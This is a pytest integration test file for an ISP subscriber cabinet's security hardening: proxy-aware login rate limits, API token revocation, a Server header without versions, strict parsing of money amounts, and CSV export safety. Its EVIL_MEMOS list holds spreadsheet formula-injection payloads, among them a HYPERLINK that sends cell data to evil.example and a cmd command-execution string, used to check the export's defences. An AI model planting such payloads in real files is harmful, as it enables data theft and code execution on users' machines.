"""Issue 13 (hardening), the cabinet's part: the client address behind a
proxy and the attempt limits, API tokens that end with the password, the
Server header, the favicon."""

from __future__ import annotations

import csv
import io
import logging
import re
import urllib.error
import urllib.request

import pytest

from sqlalchemy import func, select

from cabinet.app import CabinetServer, create_app
from config.db import utcnow
from config.settings import SettingsError
from rating import api_tokens
from rating.api_tokens import ApiToken
from rating.models import CabinetUser, OperationLog
from tests.conftest import make_context
from tests.integration.cabinet_helpers import (  # noqa: F401 (fixtures)
    app, cabinet_ctx, client, csrf_token, log_in, post_form, seed_subscriber)

PROXY = "10.0.0.5"          # nginx on the operator's side
ATTACKER = "203.0.113.9"
REAL_USER = "198.51.100.7"


@pytest.fixture
def proxied(db_url, tmp_path):
    """The cabinet behind one reverse proxy (cabinet.trusted_proxies = 1)."""
    context = make_context(db_url, data_dir=tmp_path, cabinet_trusted_proxies=1)
    yield context, create_app(context, testing=True)
    context.dispose()


def _via_proxy(app, client_address: str, forwarded: str | None = None):
    """A browser behind the proxy: every request comes from PROXY and
    carries the X-Forwarded-For the proxy wrote."""
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = PROXY
    client.environ_base["HTTP_X_FORWARDED_FOR"] = forwarded or client_address
    return client


def _log_in(client, login, password):
    page = client.get("/login")
    return client.post("/login", data={"login": login, "password": password,
                                       "csrf_token": csrf_token(page.text)})


def test_guesses_from_one_source_do_not_lock_out_the_real_user(proxied, caplog):
    context, app = proxied
    victim = seed_subscriber(context)
    attacker = _via_proxy(app, ATTACKER)
    statuses = [_log_in(attacker, victim.login, "guess-%d" % n).status_code for n in range(11)]
    assert statuses == [401] * 10 + [429]
    # Writing a made-up address in front of the proxy's does not help:
    # only the entry our proxy appended counts.
    spoofing = _via_proxy(app, ATTACKER, forwarded=f"192.0.2.{77}, {ATTACKER}")
    assert _log_in(spoofing, victim.login, "guess-x").status_code == 429
    # The subscriber, from their own address, logs in.
    caplog.set_level(logging.INFO, logger="cabinet.auth")
    assert _log_in(_via_proxy(app, REAL_USER), victim.login, victim.password).status_code == 302
    assert f"ip={REAL_USER}" in caplog.text and f"ip={PROXY}" not in caplog.text


def test_guesses_from_many_sources_stop_but_spare_the_users_own_browser(proxied):
    """A botnet gives every guess a new address: one login has a ceiling
    over all sources, and a browser that login has used before is not
    counted against it."""
    context, app = proxied
    victim = seed_subscriber(context)
    other = seed_subscriber(context)
    own_browser = _via_proxy(app, REAL_USER)
    assert _log_in(own_browser, victim.login, victim.password).status_code == 302
    own_browser.post("/logout", data={"csrf_token": csrf_token(own_browser.get("/").text)})
    # Another login's device cookie is no pass for the victim's login.
    borrowed = _via_proxy(app, "198.51.100.200")
    assert _log_in(borrowed, other.login, other.password).status_code == 302
    statuses = [_log_in(_via_proxy(app, f"203.0.113.{n + 1}"), victim.login, "guess").status_code
                for n in range(30)]
    assert statuses == [401] * 30
    assert _log_in(_via_proxy(app, "203.0.113.200"), victim.login, "guess").status_code == 429
    # A browser new to this login waits, even with the right password...
    assert _log_in(_via_proxy(app, "192.0.2.50"), victim.login,
                   victim.password).status_code == 429
    borrowed.post("/logout", data={"csrf_token": csrf_token(borrowed.get("/").text)})
    assert _log_in(borrowed, victim.login, victim.password).status_code == 429
    # ...the subscriber's own browser does not.
    assert _log_in(own_browser, victim.login, victim.password).status_code == 302


def test_one_source_behind_the_proxy_does_not_use_up_everyones_ceiling(proxied):
    context, app = proxied
    real = seed_subscriber(context)
    sprayer = _via_proxy(app, ATTACKER)
    statuses = [_log_in(sprayer, f"guess{n}", "y").status_code for n in range(101)]
    assert set(statuses[:100]) == {401} and statuses[100] == 429
    assert _log_in(_via_proxy(app, REAL_USER), real.login, real.password).status_code == 302


def test_the_forgot_form_limit_is_per_source_behind_the_proxy(db_url, tmp_path):
    context = make_context(db_url, data_dir=tmp_path, cabinet_trusted_proxies=1,
                           cabinet_public_url="https://my.isp.example", smtp_port=9)
    try:
        app = create_app(context, testing=True)
        victim = seed_subscriber(context)

        def ask(client):
            page = client.get("/forgot")
            return client.post("/forgot", data={"identifier": victim.login,
                                                "csrf_token": csrf_token(page.text)})
        attacker = _via_proxy(app, ATTACKER)
        assert [ask(attacker).status_code for _ in range(6)] == [302] * 5 + [429]
        assert ask(_via_proxy(app, REAL_USER)).status_code == 302
    finally:
        context.dispose()


def test_without_trusted_proxies_x_forwarded_for_is_ignored(db_url, tmp_path):
    """A cabinet facing clients directly: a client cannot pick a new
    address per request with the header and so escape the limit."""
    context = make_context(db_url, data_dir=tmp_path)
    try:
        app = create_app(context, testing=True)
        victim = seed_subscriber(context)
        statuses = []
        for n in range(11):
            client = app.test_client()
            client.environ_base["HTTP_X_FORWARDED_FOR"] = f"192.0.2.{n + 1}"
            statuses.append(_log_in(client, victim.login, "guess").status_code)
        assert statuses == [401] * 10 + [429]
    finally:
        context.dispose()


@pytest.mark.parametrize("value", ["-1", "6"])
def test_a_wrong_number_of_proxies_stops_the_start(db_url, tmp_path, value):
    # A negative count is refused with the settings, a high one by the app.
    with pytest.raises(SettingsError, match="cabinet.trusted_proxies"):
        context = make_context(db_url, data_dir=tmp_path, cabinet_trusted_proxies=value)
        try:
            create_app(context, testing=True)
        finally:
            context.dispose()


# -- what every answer carries ---------------------------------------------------

@pytest.fixture
def served(db_url, tmp_path):
    context = make_context(db_url, data_dir=tmp_path)
    server = CabinetServer(context, host="127.0.0.1", port=0).start()
    yield server
    server.stop()
    context.dispose()


def test_the_server_header_names_no_versions(served):
    for path in ("/login", "/static/cabinet.css", "/no-such-page"):
        try:
            with urllib.request.urlopen(served.url + path, timeout=10) as response:
                response.read()
                server = response.headers.get("Server", "")
        except urllib.error.HTTPError as error:
            with error:
                error.read()
                server = error.headers.get("Server", "")
        assert "Werkzeug" not in server and "Python" not in server, (path, server)
        assert not any(ch.isdigit() for ch in server), (path, server)


def test_a_favicon_is_served(served):
    with urllib.request.urlopen(served.url + "/favicon.ico", timeout=10) as response:
        body = response.read()
        assert response.status == 200
        assert response.headers["Content-Type"] in ("image/vnd.microsoft.icon", "image/x-icon")
        assert "no-store" not in response.headers.get("Cache-Control", "")
    assert body[:4] == b"\x00\x00\x01\x00"  # an ICO file
    with urllib.request.urlopen(served.url + "/login", timeout=10) as response:
        assert 'rel="icon"' in response.read().decode()
    with urllib.request.urlopen(served.url + "/static/favicon.svg", timeout=10) as svg:
        svg.read()
        assert svg.headers["Content-Type"].startswith("image/svg+xml")


# -- API tokens end with the password ----------------------------------------------

NEW_TOKEN = re.compile(r'data-test="new-token">(abt_[A-Za-z0-9_-]+)<')
LINK = re.compile(r"https?://\S+(/reset\?token=[A-Za-z0-9_\-]+)")


def _token(ctx, login: str, scope: str | None = None) -> str:
    with ctx.Session() as session:
        user_id = session.scalar(select(CabinetUser.id).where(CabinetUser.login == login))
        _row, secret = api_tokens.create(session, user_id, name="script", scope=scope,
                                         actor="test")
        session.commit()
    return secret


def _api(app, secret: str) -> int:
    return app.test_client().get("/api/v1/me",
                                 headers={"Authorization": f"Bearer {secret}"}).status_code


def _revocations(ctx) -> int:
    with ctx.Session() as session:
        return session.scalar(select(func.count()).select_from(OperationLog).where(
            OperationLog.action == "api_token.revoke_all"))


def test_a_password_change_revokes_every_token(app, client, cabinet_ctx):
    subscriber = seed_subscriber(cabinet_ctx)
    owner, viewer = _token(cabinet_ctx, subscriber.login), _token(cabinet_ctx, subscriber.login,
                                                                  "viewer")
    assert _api(app, owner) == _api(app, viewer) == 200
    log_in(client, subscriber.login, subscriber.password, lang="en")
    changed = post_form(client, "/password", {"current": subscriber.password,
                                              "new": "brand-new-pass-7",
                                              "confirm": "brand-new-pass-7"})
    assert changed.status_code == 302
    assert _api(app, owner) == _api(app, viewer) == 401
    page = client.get("/password").text
    assert "every API token revoked" in page
    assert "Every API token revoked" in client.get("/history").text
    assert _revocations(cabinet_ctx) == 1
    # A token made afterwards, with the new password, works.
    assert _api(app, _token(cabinet_ctx, subscriber.login)) == 200


def test_log_out_everywhere_revokes_tokens_and_a_plain_logout_does_not(app, client,
                                                                       cabinet_ctx):
    subscriber = seed_subscriber(cabinet_ctx)
    secret = _token(cabinet_ctx, subscriber.login)
    log_in(client, subscriber.login, subscriber.password, lang="en")
    page = client.get("/")
    client.post("/logout", data={"csrf_token": csrf_token(page.text)})
    assert _api(app, secret) == 200
    log_in(client, subscriber.login, subscriber.password, lang="en")
    page = client.get("/password")
    ended = client.post("/sessions/end-all", data={"csrf_token": csrf_token(page.text)})
    assert ended.status_code == 302
    assert _api(app, secret) == 401
    assert "Every other session has been logged out and every API token revoked." in \
        client.get("/password").text


def test_a_reset_by_mail_revokes_every_token(db_url, tmp_path, inbox):
    context = make_context(db_url, data_dir=tmp_path, smtp_port=inbox.port,
                           cabinet_public_url="https://my.isp.example")
    try:
        application = create_app(context, testing=True)
        subscriber = seed_subscriber(context, email="ivan@example.ru")
        secret = _token(context, subscriber.login)
        browser = application.test_client()
        post_form(browser, "/forgot", {"identifier": subscriber.login})
        path = LINK.search(inbox.text(inbox.wait(1)[0])).group(1)
        form = browser.get(path)
        token = path.split("token=", 1)[1]
        done = browser.post("/reset", data={"token": token, "new": "brand-new-pass-7",
                                            "confirm": "brand-new-pass-7",
                                            "csrf_token": csrf_token(form.text)})
        assert done.status_code == 302
        assert _api(application, secret) == 401
        assert _revocations(context) == 1
    finally:
        context.dispose()


def _make(client, password=None, scope="owner"):
    page = client.get("/tokens")
    data = {"name": "Accounting", "scope": scope, "expires": "30",
            "csrf_token": csrf_token(page.text)}
    if password is not None:
        data["password"] = password
    return client.post("/tokens", data=data)


def _count_tokens(ctx) -> int:
    with ctx.Session() as session:
        return session.scalar(select(func.count()).select_from(ApiToken))


def test_an_owner_token_needs_the_password_again(client, cabinet_ctx):
    subscriber = seed_subscriber(cabinet_ctx)
    log_in(client, subscriber.login, subscriber.password, lang="en")
    assert 'data-test="token-password"' in client.get("/tokens").text
    missing = _make(client)
    assert missing.status_code == 400
    assert "Enter your password to create a token with the owner" in missing.text
    wrong = _make(client, "not-my-password")
    assert wrong.status_code == 403 and "The password is wrong." in wrong.text
    assert "not-my-password" not in wrong.text
    assert _count_tokens(cabinet_ctx) == 0
    made = _make(client, subscriber.password)
    assert made.status_code == 200 and NEW_TOKEN.search(made.text)
    # A read-only token needs no password.
    assert _make(client, scope="viewer").status_code == 200
    assert _count_tokens(cabinet_ctx) == 2


def test_the_owner_token_form_is_in_russian_too(client, cabinet_ctx):
    subscriber = seed_subscriber(cabinet_ctx)
    log_in(client, subscriber.login, subscriber.password, lang="ru")
    assert "Ваш пароль" in client.get("/tokens").text
    assert "Введите пароль" in _make(client).text


def test_wrong_passwords_on_the_token_form_are_limited(client, cabinet_ctx):
    subscriber = seed_subscriber(cabinet_ctx)
    log_in(client, subscriber.login, subscriber.password, lang="en")
    statuses = [_make(client, f"guess-{n}").status_code for n in range(6)]
    assert statuses == [403] * 5 + [429]
    assert _count_tokens(cabinet_ctx) == 0


def test_wrong_current_passwords_on_the_password_form_share_that_limit(client, cabinet_ctx):
    """A stolen session guessing the password on /password: counted per
    login with the token form's guesses; a new password too short is not a
    guess and costs nothing."""
    subscriber = seed_subscriber(cabinet_ctx)
    log_in(client, subscriber.login, subscriber.password, lang="en")

    def change(current, new="a-new-password-9"):
        return post_form(client, "/password", {"current": current, "new": new,
                                               "confirm": new}).status_code
    assert change(subscriber.password, new="short") == 400  # not a guess
    assert [change(f"guess-{n}") for n in range(3)] == [400] * 3
    assert [_make(client, f"guess-t{n}").status_code for n in range(2)] == [403] * 2
    # Five wrong in all: even the right password is refused for now.
    assert change(subscriber.password) == 429
    with cabinet_ctx.Session() as session:
        from rating.models import CabinetUser
        from rating.passwords import verify_password
        user = session.scalars(select(CabinetUser).where(
            CabinetUser.login == subscriber.login)).one()
        assert verify_password(subscriber.password, user.password_hash)  # unchanged


def test_a_viewer_is_not_asked_for_a_password(app, cabinet_ctx):
    subscriber = seed_subscriber(cabinet_ctx)
    with cabinet_ctx.Session() as session:
        from rating.accounts import create_cabinet_user
        from rating.models import Account
        create_cabinet_user(session, session.get(Account, subscriber.account_id),
                            login="viewer-x", password="viewer-pass-1", role="viewer")
        session.commit()
    browser = app.test_client()
    log_in(browser, "viewer-x", "viewer-pass-1", lang="en")
    assert 'data-test="token-password"' not in browser.get("/tokens").text
    assert _make(browser, scope="viewer").status_code == 200


# -- the promised payment form refuses what is no amount of money ---------------

# 0.001, NaN, sNaN, Infinity and 1e999999 were found by the cabinet_forms
# fuzz target (POST /promised answered 500).
NOT_MONEY = ["10.005", "100.005", "0.001", "NaN", "Infinity", "-Infinity", "1e400",
             "1e999999", "sNaN", "1000000000000"]


def _promised_state(ctx, account_id):
    from rating.models import Account, LedgerEntry, PromisedPayment
    with ctx.Session() as session:
        return (session.get(Account, account_id).balance,
                session.scalar(select(func.count()).select_from(LedgerEntry)
                               .where(LedgerEntry.account_id == account_id)),
                session.scalar(select(func.count()).select_from(PromisedPayment)))


@pytest.mark.parametrize("amount", NOT_MONEY)
def test_the_promised_form_refuses_what_is_no_amount(client, cabinet_ctx, amount):
    broke = seed_subscriber(cabinet_ctx, balance=None)
    log_in(client, broke.login, broke.password, lang="en")
    before = _promised_state(cabinet_ctx, broke.account_id)
    response = post_form(client, "/promised", {"amount": amount})
    assert response.status_code == 400
    assert "Enter an amount like 100 or 99.50." in response.text
    assert _promised_state(cabinet_ctx, broke.account_id) == before
    # The form is still there to correct the amount; a right one works.
    assert post_form(client, "/promised", {"amount": "100.50"}).status_code == 302


def test_the_promised_form_says_it_in_russian(client, cabinet_ctx):
    broke = seed_subscriber(cabinet_ctx, balance=None)
    log_in(client, broke.login, broke.password, lang="ru")
    response = post_form(client, "/promised", {"amount": "NaN"})
    assert response.status_code == 400 and "Введите сумму вида 100 или 99.50" in response.text


@pytest.mark.parametrize("amount", NOT_MONEY[:6])
def test_rating_refuses_them_too(cabinet_ctx, amount):
    from decimal import Decimal

    from rating import promised
    from rating.accounts import DomainError
    from rating.models import Account
    broke = seed_subscriber(cabinet_ctx, balance=None)
    with cabinet_ctx.Session() as session:
        account = session.get(Account, broke.account_id)
        with pytest.raises(DomainError, match="an amount like 100 or 99.50"):
            promised.grant(session, account, Decimal(amount), utcnow(),
                           promised.PromisedRules(), actor="test")


# -- the statement's CSV: no formula in any spreadsheet's reading ----------------

EVIL_MEMOS = [
    'Оплата;=HYPERLINK("http://evil.example/?"&A1;"Подробнее")',
    "refund, +cmd|' /C calc'!A0",
    "bonus;@SUM(1+1)",
    'note; "-2+3',
    "line one\n=1+1",
    "=1+1",
    "a,\t=1",
    "card ;\uff1dSUM(1)",
]
TRIGGERS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def _cells_as_excel_might_see_them(text: str):
    """Every piece a spreadsheet could take for a cell: the file split at
    ; , and line breaks, with no regard for quotes (that is how Russian
    Excel reads a comma-separated file), spaces and quotes stripped."""
    for piece in re.split(r"[;,\r\n]", text):
        yield piece.lstrip(' "\'') if not piece.lstrip(' "').startswith("'") else "'"


def test_the_csv_statement_has_no_formula(client, cabinet_ctx):
    from rating import ledger
    subscriber = seed_subscriber(cabinet_ctx)
    logged_in = client
    log_in(client, subscriber.login, subscriber.password, lang="en")
    with cabinet_ctx.Session() as session:
        for n, memo in enumerate(EVIL_MEMOS):
            # An operator's reason is the text that reaches the CSV as written.
            ledger.post(session, account_id=subscriber.account_id, amount="-1.50",
                        kind="correction", key=f"charge:evil:{n}", author="test", memo=memo,
                        memo_code="charge", memo_args={"reason": memo})
        session.commit()
    response = logged_in.get("/payments.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True).lstrip("\ufeff")
    for cell in _cells_as_excel_might_see_them(text):
        if cell.startswith(TRIGGERS):
            # Only our own amounts start with a minus: numbers, no formula.
            assert re.fullmatch(r'-[0-9]+\.[0-9]{2}"?', cell), repr(cell)
    # A comma-separated reader gets every memo back whole, defused only.
    rows = list(csv.reader(io.StringIO(text)))
    memos = [row[4] for row in rows[2:-1] if row[2] == "-1.50"]
    assert len(memos) == len(EVIL_MEMOS)
    for memo, original in zip(memos, EVIL_MEMOS):
        assert memo.replace("'", "") == original.replace("'", "")


# -- say so at start ---------------------------------------------------------------

@pytest.mark.parametrize("public_url", ["", "https://my.isp.example"])
def test_serve_cabinet_says_at_start_that_reset_mail_is_off(db_url, tmp_path, public_url):
    import os
    import subprocess
    import sys
    from pathlib import Path

    env = {k: v for k, v in os.environ.items() if not k.startswith("ABONENT_")}
    env.update(ABONENT_DATABASE_URL=db_url, ABONENT_DATA_DIR=str(tmp_path),
               ABONENT_CABINET_PUBLIC_URL=public_url)
    abonent = str(Path(sys.executable).with_name("abonent"))
    process = subprocess.Popen([abonent, "serve", "cabinet", "--port", "0"], env=env,
                               stderr=subprocess.PIPE, text=True)
    try:
        lines = []
        for line in process.stderr:
            lines.append(line)
            if "listening on" in line:
                break
        text = "".join(lines)
        assert "listening on http://127.0.0.1:" in text, text
        warned = "cabinet.public_url is not set, so the cabinet sends no password reset mail"
        assert (warned in text) == (not public_url), text
    finally:
        process.terminate()
        process.wait(timeout=20)
        process.stderr.close()
